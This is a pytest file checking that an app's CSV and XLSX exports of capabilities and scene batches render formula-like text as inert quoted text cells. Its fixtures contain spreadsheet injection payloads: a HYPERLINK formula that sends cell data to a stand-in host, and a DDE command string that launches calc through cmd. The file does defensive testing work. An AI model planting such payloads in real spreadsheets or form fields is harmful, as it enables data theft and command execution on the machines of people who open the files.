"""Every table handed out as a file keeps a firm's or a department's text as text: a title
written as a formula comes back, in CSV and XLSX, as a text cell that runs nothing."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from scenehub.firms import service as firm_service
from scenehub.firms.schemas import CapabilityImport, FirmImport
from scenehub.governance.policy import SYSTEM
from scenehub.integration.uscc import make_uscc
from scenehub.scenes import service as scene_service
from scenehub.scenes.schemas import SceneImport
from tests.conftest import Accounts

FORMULA = '=HYPERLINK("http://x.example/?d="&A2,"click me")'
BATCH = "2026 第1批"


@pytest.fixture
def formula_titles(session: Session, accounts: Accounts) -> None:
    """A published capability and a published scene whose titles are formulas."""
    firm = firm_service.import_firm(
        session,
        SYSTEM,
        FirmImport(uscc=make_uscc("330106", "MA2J8K1M"), name="公式科技", district_code="330106"),
    )
    firm_service.import_capability(
        session,
        SYSTEM,
        CapabilityImport(
            code="T-formula",
            firm_id=firm.id,
            title=FORMULA,
            description="@SUM(1+1)*cmd|' /C calc'!A0",
        ),
    )
    scene_service.import_scene(
        session,
        SYSTEM,
        SceneImport(
            code="S-formula",
            title=FORMULA,
            domain="transport",
            department_org_id=accounts.department.org_id,
            wanted="-2+3",
            budget_min_10k=50,
            batch=BATCH,
            published_on=date(2026, 1, 5),
        ),
    )
    session.commit()


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[dict[str, openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    header, *rows = list(sheet.iter_rows())
    return [{str(h.value): c for h, c in zip(header, row, strict=True)} for row in rows]


def test_a_capability_titled_as_a_formula_downloads_as_text(
    client: TestClient, formula_titles: None
) -> None:
    as_csv = client.get("/capabilities/export", params={"format": "csv"})
    assert as_csv.status_code == 200
    (row,) = csv_rows(as_csv.content)
    assert row["title"] == "'" + FORMULA
    assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    as_xlsx = client.get("/capabilities/export", params={"format": "xlsx"})
    (cells,) = xlsx_rows(as_xlsx.content)
    assert cells["title"].data_type == "s" and cells["title"].value == "'" + FORMULA
    assert cells["description"].data_type == "s"
    assert cells["trl"].data_type == "n" and cells["trl"].value == 6  # numbers stay numbers


def test_a_scene_batch_with_a_formula_title_downloads_as_text(
    client: TestClient, formula_titles: None
) -> None:
    for format in ("csv", "xlsx"):
        response = client.get("/scenes/batches/export", params={"batch": BATCH, "format": format})
        assert response.status_code == 200, response.text
        if format == "csv":
            (row,) = csv_rows(response.content)
            assert row["title"] == "'" + FORMULA and row["wanted"] == "'-2+3"
            assert row["budget_min_10k"] == "50"
        else:
            (cells,) = xlsx_rows(response.content)
            assert cells["title"].data_type == "s" and cells["title"].value == "'" + FORMULA
            assert cells["wanted"].data_type == "s" and cells["wanted"].value == "'-2+3"
            assert cells["budget_min_10k"].data_type == "n"
            assert cells["budget_min_10k"].value == 50
